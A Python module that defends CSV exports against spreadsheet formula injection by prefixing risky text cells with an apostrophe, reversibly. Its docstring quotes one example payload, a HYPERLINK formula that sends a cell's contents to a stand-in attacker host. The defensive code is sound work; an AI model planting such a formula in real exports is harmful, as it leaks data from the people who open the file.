"""CSV cells a spreadsheet will not run: formula injection neutralised, reversibly.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets (OWASP "CSV Injection"), so a title like
`=HYPERLINK("http://evil.example/?"&A1,"Open")` typed into a public form would run on a staff
member's machine. Every CSV the app writes goes through `writer`, which prefixes such a text cell
with an apostrophe (spreadsheets show the text, not a formula). Text that already starts with an
apostrophe gets one more, so `unescape` restores every value exactly: an export imports back
losslessly. Only text is touched; numbers and dates are written as they are.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import IO, Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def escape(value: Any) -> Any:
    """The cell to write for `value`: text that a spreadsheet would evaluate is prefixed."""
    if isinstance(value, str) and value.startswith((*TRIGGERS, QUOTE)):
        return QUOTE + value
    return value


def unescape(value: str) -> str:
    """The value `escape` was given: one leading apostrophe before a trigger (or another
    apostrophe) is removed; any other text is left as it is."""
    if value.startswith(QUOTE) and value[1:].startswith((*TRIGGERS, QUOTE)):
        return value[1:]
    return value


class Writer:
    """csv.writer whose rows are escaped cell by cell."""

    def __init__(self, stream: IO[str], **kwargs):
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([escape(cell) for cell in row])


class DictWriter(csv.DictWriter):
    """csv.DictWriter whose values are escaped cell by cell (header names are the app's)."""

    def writerow(self, rowdict):
        return super().writerow({key: escape(value) for key, value in rowdict.items()})
